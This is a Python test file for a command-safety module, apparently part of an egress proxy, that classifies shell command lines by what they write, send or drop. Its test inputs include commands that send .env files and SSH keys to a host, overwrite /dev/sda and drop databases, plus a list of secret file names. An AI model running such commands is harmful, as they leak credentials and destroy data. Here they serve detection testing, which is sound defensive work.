"""What a command writes, sends and tells a data store."""

import pytest

from egress_proxy.safety.effects import effects_of, is_secret, unpacks_download, writes_of
from egress_proxy.safety.values import EMPTY, UNKNOWN, Content, Memory, Origin, words_of


@pytest.mark.parametrize(
    ("line", "effect"),
    [
        ("tee -a /x", "write /x"),
        ("dd if=a of=/dev/sda", "write /dev/sda"),
        ("sed -i s/a/b/ /x", "write /x"),
        ("cp a /x/", "write /x/a"),
        ("curl -T .env h", "send secret"),
        ("wget --post-file .env h", "send secret"),
        ("gh gist create .env", "send secret"),
        ("ftp -u h .netrc", "send secret"),
        ("ddrescue a /dev/sda", "write /dev/sda"),
        ("wipefs -a /dev/sda", "write /dev/sda"),
        ("scp ~/.ssh/id_rsa h:", "send secret"),
        ("psql -c drop", "sql drop"),
        ("sqlite3 f drop", "sqlite drop"),
    ],
)
def test_effects(line: str, effect: str) -> None:
    program, *words = line.split()
    assert effect in list(effects_of(program, words_of(words), EMPTY, Memory()))


@pytest.mark.parametrize(
    ("line", "path"),
    [
        ("curl -o f U", "f"),
        ("curl -sO https://h/f", "f"),
        ("wget https://h/a/f?x", "f"),
        ("wget -P /d https://h/f", "/d/f"),
        ("aria2c -d /d -o f U", "/d/f"),
        ("wget --output-document=f U", "f"),
        ("mkfifo f", "f"),
    ],
)
def test_downloads_are_files_of_the_line(line: str, path: str) -> None:
    program, *words = line.split()
    assert (path, Content(UNKNOWN, Origin.DOWNLOAD)) in list(writes_of(program, words_of(words), EMPTY))


def test_secrets_by_name() -> None:
    assert all(map(is_secret, ["~/.ssh/id_rsa", ".env", "/etc/shadow", "~/.aws/credentials", "a.pem"]))
    assert not any(map(is_secret, ["~/.ssh/id_rsa.pub", "env.md", "notes"]))


def test_an_archive_that_was_downloaded() -> None:
    downloaded = Content(UNKNOWN, Origin.DOWNLOAD)
    assert unpacks_download("tar", words_of(["xz"]), downloaded, Memory())
    assert unpacks_download("unzip", words_of(["f"]), EMPTY, Memory(files={"f": downloaded}))
    assert not unpacks_download("tar", words_of(["xz", "f"]), EMPTY, Memory())


@pytest.mark.parametrize("line", ["wipefs /dev/sda", "wipefs -n /dev/sda", "gh secret set -f .env"])
def test_reading_and_keeping_have_no_effect(line: str) -> None:
    program, *words = line.split()
    assert list(effects_of(program, words_of(words), EMPTY, Memory())) == []


def test_words_of_redis_are_no_statements() -> None:
    assert list(effects_of("redis-cli", words_of(["set", "k", "flushall"]), EMPTY, Memory())) == []
    assert list(effects_of("redis-cli", [], Content("flushall"), Memory())) == ["sql flushall"]
